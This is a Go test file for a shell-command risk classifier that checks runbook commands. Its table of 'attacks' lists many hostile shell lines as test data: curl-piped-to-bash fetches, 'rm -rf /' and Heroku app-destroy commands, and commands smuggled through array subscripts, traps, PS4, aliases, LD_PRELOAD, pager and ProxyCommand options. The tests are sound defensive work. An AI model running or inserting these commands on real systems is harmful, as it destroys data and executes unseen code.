package risk

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// attacks are commands that make bash run code the call tree does not show, or that
// dynodoc cannot read. Each must be at least min: none may run on enter, and the
// opaque ones need the typed name.
var attacks = []struct {
	cmd string
	min Level
}{
	// arithmetic over variables and subscripts
	{`let "a[$(id)]"`, Risky},
	{`let 'a[$(heroku apps:destroy -a x)]'`, Destructive},
	{`declare -i x="a[\$(id)]"`, Risky},
	{`typeset -i n; n=$1`, Risky},
	{`local -i n=$x`, Risky},
	{`[[ -v a[$(id)] ]]`, Risky},
	{`[[ -v 'a[$(heroku pg:reset -a x)]' ]]`, Destructive},
	{`[[ $x -eq 1 ]]`, Risky},
	{`[[ 1 -lt "$(cat n)" ]]`, Risky},
	{`printf -v "a[$(id)]" x`, Risky},
	{`printf -v 'a[$(heroku apps:destroy -a x)]' x`, Destructive},
	{`read -a x`, Risky},
	{`read 'a[$i]'`, Risky},
	{`test -v "a[\$(id)]"`, Risky},
	{`[ -v 'a[$i]' ]`, Risky},
	{`unset 'a[$(id)]'`, Risky},
	{`echo "$(( x ))"`, Risky},
	{`echo $[ x + 1 ]`, Risky},
	{`(( n++ ))`, Risky},
	{`for (( i = 0; i < n; i++ )); do :; done`, Risky},
	{`echo ${a[$i]}`, Risky},
	{`echo ${s:$off:2}`, Risky},
	{`a[$i]=1`, Risky},
	{`x='a[$(heroku apps:destroy -a x)]'; echo $(( x ))`, Destructive},
	{`echo ${!name}`, Risky},
	{`wait -n -p 'a[$i]'`, Risky},
	{`getopts ab 'a[$i]'`, Risky},
	// callbacks, traps, aliases, options
	{`mapfile -C "heroku apps:destroy" x < f`, Destructive},
	{`readarray -C 'echo' -c 1 x < f`, Risky},
	{`mapfile -C "$CB" x < f`, Destructive},
	{`trap -- 'heroku apps:destroy -a x' EXIT`, Destructive},
	{`trap 'echo bye' EXIT`, Risky},
	{`trap "$ACTION" ERR`, Destructive},
	{`trap '' INT`, Risky},
	{`PS4="\$(id)"; set -x`, Risky},
	{`PROMPT_COMMAND='heroku ps'`, Risky},
	{`alias ls=rm`, Risky},
	{`alias ls='heroku apps:destroy -a x'`, Destructive},
	{`shopt -s expand_aliases`, Risky},
	{`shopt -s extdebug`, Risky},
	{`set -o functrace`, Risky},
	{`set -k`, Risky},
	{`hash -p /bin/rm ls`, Risky},
	{`enable -f ./evil.so evil`, Destructive},
	{`enable -n echo`, Risky},
	{`exec ls`, Risky},
	{`exec -a x heroku pg:reset -a x`, Destructive},
	{`eval ls`, Risky},
	{`command_not_found_handle() { ls; }`, Risky},
	{`function command_not_found_handle { echo; }`, Risky},
	{`compgen -C 'heroku apps:destroy -a x' x`, Destructive},
	{`compgen -W '$(id)' x`, Risky},
	{`complete -F f ls`, Risky},
	// variables that change how the shell starts or finds commands
	{`IFS=x`, Risky},
	{`export PATH=/x`, Risky},
	{`declare PATH=/x`, Risky},
	{`declare "PATH=/x"`, Risky},
	{`local IFS=,`, Risky},
	{`readonly SHELLOPTS`, Risky},
	{`export BASH_ENV=./x.sh`, Risky},
	{`ENV=./x sh -c :`, Risky},
	{`LD_PRELOAD=./x.so ls`, Risky},
	{`LD_LIBRARY_PATH=/tmp ls`, Risky},
	{`LD_AUDIT=x ls`, Risky},
	{`env LD_PRELOAD=x ls`, Risky},
	{`env BASHOPTS=x bash -c :`, Risky},
	{`sudo PATH=/tmp ls`, Risky},
	{`GLOBIGNORE=x`, Risky},
	{`CDPATH=/tmp`, Risky},
	{`export BASH_FUNC_ls%%='() { rm; }'`, Risky},
	{`HEROKU_API_KEY=x heroku ps`, Risky},
	{`env HEROKU_HOST=evil.example heroku ps`, Risky},
	{`GIT_PAGER='heroku ps' git log`, Risky},
	{`PAGER=x man ls`, Risky},
	{`for PATH in /tmp; do ls; done`, Risky},
	{`read PATH`, Risky},
	{`printf -v PATH %s /tmp`, Risky},
	{`: ${IFS:=x}`, Risky},
	{`https_proxy=http://evil heroku ps`, Risky},
	{`export -f ls`, Risky},
	// reads whose options run code or write files
	{`find . -exec heroku apps:destroy -a x \;`, Destructive},
	{`find . -delete`, Destructive},
	{`find . -fprint out`, Risky},
	{`find . -frobnicate`, Risky},
	{`xargs sh -c`, Destructive},
	{`echo x | xargs bash`, Destructive},
	{`echo apps:destroy | xargs heroku`, Destructive},
	{`awk 'BEGIN { system("id") }'`, Destructive},
	{`awk '{ print | "sh" }'`, Destructive},
	{`awk '{ "date" | getline d }'`, Destructive},
	{`awk 'BEGIN{system("heroku apps:destroy -a x")}'`, Destructive},
	{`less '+!heroku apps:destroy -a x' /dev/null`, Destructive},
	{`less +:e\ x f`, Risky},
	{`make deploy`, Destructive},
	{`make -n`, Destructive},
	{`npm run release`, Destructive},
	{`npx some-tool`, Destructive},
	{`yarn install`, Destructive},
	{`tmux new-session -d 'heroku apps:destroy -a x'`, Destructive},
	{`tmux send-keys -t 0 'heroku apps:destroy -a x' Enter`, Destructive},
	{`screen -dm heroku apps:destroy -a x`, Destructive},
	{`make --version`, Risky},
	{`tmux ls`, Risky},
	{`awk '{ print > "/etc/passwd" }'`, Risky},
	{`awk "$PROG" f`, Destructive},
	{`gawk -l ./x.so 'BEGIN{}'`, Destructive},
	{`sed '1e heroku apps:destroy -a x' f`, Destructive},
	{`sed 's/.*/id/e' f`, Destructive},
	{`sed -n 'w out' f`, Risky},
	{`sed -i s/a/b/ f`, Risky},
	{`sed -f script.sed f`, Destructive},
	{`sort -o out f`, Risky},
	{`sort --compress-program=heroku f`, Risky},
	{`tee out`, Risky},
	{`git -c core.pager='heroku apps:destroy -a x' log`, Destructive},
	{`git --config-env=core.pager=X log`, Risky},
	{`git -c alias.x='!id' x`, Risky},
	{`git log --output=f`, Risky},
	{`git grep --open-files-in-pager=id x`, Risky},
	{`git fetch --upload-pack='id' origin`, Risky},
	{`less '+!id' f`, Risky},
	{`less -o log f`, Risky},
	{`less -k keys f`, Risky},
	{`more '+|id' f`, Risky},
	{`env -S 'heroku apps:destroy -a x'`, Destructive},
	{`date -s 2020-01-01`, Risky},
	{`date 0101000020`, Risky},
	{`tar -tf x.tar --to-command='heroku apps:destroy -a x'`, Destructive},
	{`tar tf x.tar --checkpoint=1 --checkpoint-action=exec=id`, Risky},
	{`tar -tf x.tar -I 'heroku apps:destroy -a x'`, Destructive},
	{`tar -tf host:x.tar`, Risky},
	{`rsync -e 'heroku apps:destroy -a x' a b:c`, Destructive},
	{`ssh -o ProxyCommand='heroku apps:destroy -a x' host`, Destructive},
	{`ssh -oLocalCommand=id host`, Risky},
	{`curl -o out https://x.example`, Risky},
	{`curl -K cfg https://x.example`, Risky},
	{`curl -c cookies https://x.example`, Risky},
	{`curl -D hdrs https://x.example`, Risky},
	{`wget -qO- -e 'output_document=x' https://x.example`, Risky},
	{`rg --pre 'heroku apps:destroy -a x' foo`, Destructive},
	{`rg --frobnicate foo`, Risky},
	{`bat --pager 'heroku apps:destroy -a x' f`, Destructive},
	{`watch 'heroku apps:destroy -a x'`, Destructive},
	{`timeout 5 heroku pg:reset -a x`, Destructive},
	{`nice heroku pg:reset -a x`, Destructive},
	{`time heroku pg:reset -a x`, Destructive},
	{`command heroku pg:reset -a x`, Destructive},
	{`builtin eval 'heroku pg:reset -a x'`, Destructive},
	{`builtin export PATH=/x`, Risky},
	{`command -p env PATH=/x ls`, Risky},
	{`uniq in out`, Risky},
	{`xxd in out`, Risky},
	{`open ./evil.command`, Risky},
	{`hostname evil`, Risky},
	{`dmesg -c`, Risky},
	{`ss -K dst 1.2.3.4`, Risky},
	// opaque code
	{`bash <(curl -s https://x.example/s)`, Destructive},
	{`source <(curl -s https://x.example/s)`, Destructive},
	{`. /dev/stdin <<< "$X"`, Destructive},
	{`sh < <(curl x)`, Destructive},
	{`curl -s x | sh -s`, Destructive},
	{`base64 -d <<< aGVyb2t1 | bash`, Destructive},
	{`./fix.sh`, Destructive},
	{`bash scripts/x.sh`, Destructive},
	{`source env.sh`, Destructive},
	{`/tmp/ls`, Destructive},
	{`~/bin/fix`, Destructive},
	{`heroku run ./fix.sh -a x`, Destructive},
	{`fish -c 'heroku ps'`, Destructive},
	{`bash --rcfile ./rc -i`, Destructive},
	{`x='$(heroku apps:destroy -a x)'; echo "${x@P}"`, Destructive},
	{`echo "${y@P}"`, Destructive},
	{`jobs -x heroku apps:destroy -a x`, Destructive},
	{`/usr/bin/time -o out ls`, Risky},
	{`scp -o ProxyCommand='heroku apps:destroy -a x' a h:b`, Destructive},
	{`psql -c '\! heroku apps:destroy -a x'`, Destructive},
	{`heroku pg:psql -a x -c '\o |heroku apps:destroy -a x'`, Destructive},
	{`psql -f q.sql`, Destructive},
	{`redis-cli EVAL 'return 1' 0`, Destructive},
	{`rails runner 'User.delete_all'`, Destructive},
	{`heroku run rails runner 'User.delete_all' -a x`, Destructive},
	{`rake -e 'puts 1'`, Destructive},
	{`python3.11 -c 'print(1)'`, Destructive},
	{`vim -c '!heroku apps:destroy -a x' f`, Destructive},
	{`"$(echo heroku)" "$(echo apps:destroy)"`, Destructive},
	{`$SHELL -c "$X"`, Destructive},
	{`./$NAME.sh`, Destructive},
	// the effects above reaching a command
	{`PATH=/tmp ls`, Destructive},
	{`export PATH=./bin:$PATH; heroku ps`, Destructive},
	{`LD_PRELOAD=./x.so heroku ps`, Destructive},
	{`env BASH_ENV=./x.sh bash -c :`, Destructive},
	{`PS4='$(heroku apps:destroy -a x)'; set -x; echo`, Destructive},
	{`PS4="$X"; set -x`, Destructive},
	{`PROMPT_COMMAND='heroku apps:destroy -a x'`, Destructive},
	{`x='a[$(heroku apps:destroy -a x)]'`, Destructive},
	{`hash -p ./evil heroku; heroku ps`, Destructive},
	// shells reading input the classifier cannot see
	{`echo x | tee >(bash)`, Destructive},
	{`exec 3< <(curl x); bash <&3`, Destructive},
	{`coproc bash`, Destructive},
	{`while read -r l; do bash; done < cmds.txt`, Destructive},
	{`bash -O expand_aliases -c ls`, Risky},
	{`bash -o functrace -c ls`, Risky},
	// wrappers that run a command
	{`$BASH -c 'heroku apps:destroy -a x'`, Destructive},
	{`su -c 'heroku apps:destroy -a x' bob`, Destructive},
	{`runuser -u bob -- sh -c "$X"`, Destructive},
	{`flock /tmp/l heroku apps:destroy -a x`, Destructive},
	{`flock /tmp/l -c 'heroku apps:destroy -a x'`, Destructive},
	{`strace -o out heroku apps:destroy -a x`, Destructive},
	{`parallel heroku {} ::: apps:destroy`, Destructive},
	{`cat cmds | parallel`, Destructive},
	{`chroot / heroku apps:destroy -a x`, Destructive},
	{`awk -f prog.awk f`, Destructive},
	{`declare -n r=PATH; r=/tmp; ls`, Destructive},
	{`{heroku,apps:destroy} -a x`, Destructive},
	{`heroku apps:{destroy,info} -a x`, Destructive},
	{`echo {1..100000}`, Risky},
	{`cmd=(heroku apps:destroy -a x); "${cmd[@]}"`, Destructive},
	{`cmd=(heroku); cmd+=(apps:destroy); "${cmd[@]}"`, Destructive},
	{`h=ls; read -r h; $h`, Risky},
	{`heroku local:run heroku apps:destroy -a x`, Destructive},
	{`heroku local web`, Destructive},
	{`heroku plugins:install evil`, Destructive},
	{`git ls-remote --upload-pack='heroku apps:destroy -a x' .`, Destructive},
	{`git grep -O'heroku apps:destroy -a x' foo`, Destructive},
	{`man -P 'heroku apps:destroy -a x' ls`, Destructive},
	{`man -l ./x.1`, Risky},
	{`mysql -e 'system heroku apps:destroy -a x'`, Destructive},
	{`sqlite3 db '.shell heroku apps:destroy -a x'`, Destructive},
	{`echo '.system heroku apps:destroy -a x' | sqlite3 db`, Destructive},
	{`mysql -e "$Q"`, Destructive},
	{`PSQL_PAGER='heroku apps:destroy -a x' psql -c 'select 1'`, Destructive},
	// values split into words, and variables with several values
	{`IFS=_; x=heroku_apps:destroy_-a_x; $x`, Destructive},
	{`IFS=_; x="-rf_/"; rm $x`, Destructive},
	{`IFS=$(cat f); x=a; ls $x`, Destructive},
	{`cmd="heroku apps:destroy -a x"; IFS= read -r l; $cmd`, Destructive},
	{`local IFS=_; cmd="heroku apps:destroy -a x"; $cmd`, Destructive},
	{`x="-exec rm -rf / ;"; find . $x`, Destructive},
	{`a="-rf /"; rm $a`, Destructive},
	{`for o in -l -rf; do rm $o /; done`, Destructive},
	{`for s in "ps -a x" "apps:destroy -a x"; do heroku $s; done`, Destructive},
	{`find . -name '*.sh' -exec {} \;`, Destructive},
}

func TestAttacksAreNeverSafe(t *testing.T) {
	if len(attacks) < 40 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	empty := t.TempDir()
	seen := map[string]bool{}
	for _, a := range attacks {
		if seen[a.cmd] {
			t.Errorf("duplicate attack %q", a.cmd)
		}
		seen[a.cmd] = true
		v := ClassifyWith(a.cmd, Options{Dir: empty})
		if v.Level < a.min {
			t.Errorf("Classify(%q) = %s %q, want at least %s", a.cmd, v.Level, v.Reasons, a.min)
		}
		if len(v.Reasons) == 0 {
			t.Errorf("Classify(%q) = %s with no reason", a.cmd, v.Level)
		}
	}
}

// TestReadsStaySafe: the allowlist still lets runbooks read without a gate.
func TestReadsStaySafe(t *testing.T) {
	for _, cmd := range []string{
		`echo "$(( 1 + 2 ))"`, `echo $(( $# + 1 ))`, `echo ${#name}`, `echo ${a[0]} ${a[@]}`,
		`cat <(ls)`, `diff <(heroku config -a a) <(heroku config -a b)`, `sed -n '1,5p' f`,
		`sed 's/a/b/g; /x/d' f`, `sed -E 's|/a|/b|' f`, `awk '{print $1}' f`,
		`awk -F: '$3 > 100 { print $1 }' f`, `awk '/H10|H12/ { n++ } END { print n }' f`,
		`tar tzf x.tar.gz`, `tar -tvf x.tar`, `find . -name '*.log' -mtime -1 -print`,
		`less -R f`, `less +G f`, `more +10 f`, `set -euo pipefail`, `set -x`, `set -- a b`,
		`shopt -s nullglob`, `export HEROKU_APP=x`, `[[ -v HOME ]]`, `read -r line`,
		`git diff -w`, `git log -5 --oneline`, `date +%s`, `date -u -d '1 hour ago'`,
		`rg -n foo .`, `trap - EXIT`, `trap`, `trap -p`, `alias`, `hash`, `hash -r`,
		`open https://dashboard.heroku.com`, `uniq -c f`, `xargs`, `jq -r '.[] | .name' f`,
		`heroku ps -a x | xargs -n1 echo`, `cd /tmp && ls`, `printf -v line '%s' x`,
		`declare -a arr`, `local x=1`, `export FOO=bar`, `unset x`, `test -n "$x"`,
		`[ "$a" = b ]`, `curl -s https://status.heroku.com/api/v4/current-status`,
		`mapfile -t lines < f`, `exec 2>&1`, `command -v heroku`, `type heroku`,
		`echo $((16#ff)) $(( 0x10 + 2 )) $(( 0755 ))`, `find . -name x -exec cat {} \;`,
		`bash < /dev/null`, `flock /tmp/l heroku ps`, `echo file{1,2}.txt`, `{heroku,ps}`, `man ls`, `man 5 crontab`, `declare -A m`, `echo ${!a[@]}`,
	} {
		if v := ClassifyWith(cmd, Options{Dir: t.TempDir()}); v.Level != Safe {
			t.Errorf("Classify(%q) = %s %q, want safe", cmd, v.Level, v.Reasons)
		}
	}
}

// TestLocalScripts: a script the block runs is read from the runbook's folder and
// classified; one that cannot be read or checked is destructive.
func TestLocalScripts(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	write := func(dir, name, text string, mode os.FileMode) {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), mode); err != nil {
			t.Fatal(err)
		}
	}
	write(dir, "reads.sh", "#!/bin/bash\nset -eu\nheroku ps -a \"$1\"\n", 0o755)
	write(dir, "scripts/x.sh", "heroku apps:destroy -a x --confirm x\n", 0o644)
	write(dir, "env.sh", "export FOO=1\n", 0o644)
	write(dir, "sub/reads.sh", "heroku pg:reset -a x\n", 0o755)
	write(dir, "fix.py", "#!/usr/bin/env python3\nprint(1)\n", 0o755)
	write(dir, "bin.sh", "heroku ps\x00\x01", 0o755)
	write(dir, "big.sh", strings.Repeat("# pad\n", MaxScriptSize/6+1), 0o755)
	write(dir, "args.sh", "\"$@\"\n", 0o755)
	write(dir, "self.sh", "source ./self.sh\n", 0o644)
	write(dir, "Procfile", "web: bundle exec puma\n", 0o644)
	write(dir, "Procfile.evil", "# comment: x\nworker: heroku apps:destroy -a x\n", 0o644)
	write(dir, "shebang-c.sh", "#!/usr/bin/env -S bash -c 'heroku apps:destroy -a x'\nheroku ps\n", 0o755)
	write(dir, "shebang-eu.sh", "#!/usr/bin/env bash -eu\nheroku ps\n", 0o755)
	write(outside, "out.sh", "heroku ps\n", 0o755)
	if err := os.Symlink(filepath.Join(outside, "out.sh"), filepath.Join(dir, "link.sh")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "adir"), 0o755); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		cmd  string
		want Level
	}{
		{`./reads.sh prod`, Safe},
		{`bash reads.sh prod`, Safe},
		{`bash < reads.sh`, Safe},
		{`bash scripts/x.sh`, Destructive},
		{`sh ./scripts/x.sh`, Destructive},
		{`scripts/x.sh`, Destructive},
		{`source env.sh`, Risky},
		{`. ./env.sh`, Risky},
		{`source scripts/x.sh`, Destructive},
		{`./fix.py`, Destructive},
		{`./bin.sh`, Destructive},
		{`./big.sh`, Destructive},
		{`./link.sh`, Destructive},
		{filepath.Join(outside, "out.sh"), Destructive},
		{`./adir`, Destructive},
		{`./missing.sh`, Destructive},
		{`./args.sh heroku apps:destroy -a x`, Destructive},
		{`./args.sh heroku ps`, Risky},
		{`source self.sh`, Risky},
		{`cd sub && ./reads.sh`, Destructive},
		{`./reads.sh; cd sub`, Destructive},
		{`env -C sub ./reads.sh`, Destructive},
		{`heroku run ./reads.sh -a x`, Destructive},
		{`./shebang-c.sh`, Destructive},
		{`./shebang-eu.sh`, Safe},
		{`bash < /dev/null`, Safe},
		{`heroku local web`, Risky},
		{`heroku local -f Procfile.evil`, Destructive},
		{`echo 'heroku apps:destroy -a x' > reads.sh; ./reads.sh`, Destructive},
		{`cp scripts/x.sh reads.sh && bash reads.sh`, Destructive},
		{`heroku ps:restart -a x; ./reads.sh`, Risky},
		{`./reads.sh && heroku pg:psql -a x -c 'select 1'`, Risky},
		{`./reads.sh > out.txt`, Destructive},
		{`x=$(./reads.sh); heroku ps:scale web=2 -a "$x"`, Risky},
	}
	for _, tt := range tests {
		v := ClassifyWith(tt.cmd, Options{Dir: dir})
		if v.Level != tt.want {
			t.Errorf("Classify(%q) = %s %q, want %s", tt.cmd, v.Level, v.Reasons, tt.want)
		}
	}
}

// TestReadOnlyProgramsHaveNoRule: a read-only program takes any arguments, so none of
// them may also need a rule (which would mean some arguments are not harmless).
func TestReadOnlyProgramsHaveNoRule(t *testing.T) {
	for name := range readOnlyPrograms {
		if _, ok := programs[name]; ok {
			t.Errorf("%s is both read-only and ruled", name)
		}
	}
}

// TestWorkIsBounded: values that double at each assignment and scripts that source
// themselves many times over stay within bounds instead of exhausting memory or time.
func TestWorkIsBounded(t *testing.T) {
	doubling := "a=xxxxxxxx; " + strings.Repeat("a=$a$a; ", 64) + "echo $a"
	if v := Classify(doubling, nil); v.Level != Safe {
		t.Errorf("doubling: %s %q, want safe", v.Level, v.Reasons)
	}
	dir := t.TempDir()
	self := strings.Repeat("source ./self.sh\n", 50)
	if err := os.WriteFile(filepath.Join(dir, "self.sh"), []byte(self), 0o644); err != nil {
		t.Fatal(err)
	}
	// Eight nested shells, each run once per value of a sixteen-valued loop variable.
	nested := "heroku ps"
	for i := 0; i < 8; i++ {
		q, _ := syntax.Quote(nested, syntax.LangBash)
		nested = "for a in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do bash -c " + q + " $a; done"
	}
	if v := Classify(nested, nil); v.Level != Destructive {
		t.Errorf("nested loops: %s %q, want destructive for too complex", v.Level, v.Reasons)
	}
	v := ClassifyWith("./self.sh", Options{Dir: dir})
	if v.Level != Destructive || !strings.Contains(strings.Join(v.Reasons, "\n"), "more than 32 scripts") {
		t.Errorf("self-sourcing script: %s %q, want destructive for too many scripts", v.Level, v.Reasons)
	}
}

func TestBraceWords(t *testing.T) {
	for src, want := range map[string]string{
		`a{b,c}d{1..3}`:    "abd1 abd2 abd3 acd1 acd2 acd3",
		`{10..0..5}`:       "10 5 0",
		`{a..c}`:           "a b c",
		`x{a,{b,c}}`:       "xa xb xc",
		`{heroku,ps}`:      "heroku ps",
		`plain`:            "plain",
		`{1..100}{1..100}`: "",
	} {
		f, err := syntax.NewParser().Parse(strings.NewReader(src), "")
		if err != nil {
			t.Fatal(err)
		}
		w := f.Stmts[0].Cmd.(*syntax.CallExpr).Args[0]
		syntax.SplitBraces(w)
		words, ok := braceWords(w, maxBraceWords)
		var got []string
		for _, w := range words {
			got = append(got, w.Lit())
		}
		if strings.Join(got, " ") != want || ok != (want != "") {
			t.Errorf("braceWords(%s) = %q, %v; want %q", src, got, ok, want)
		}
	}
}
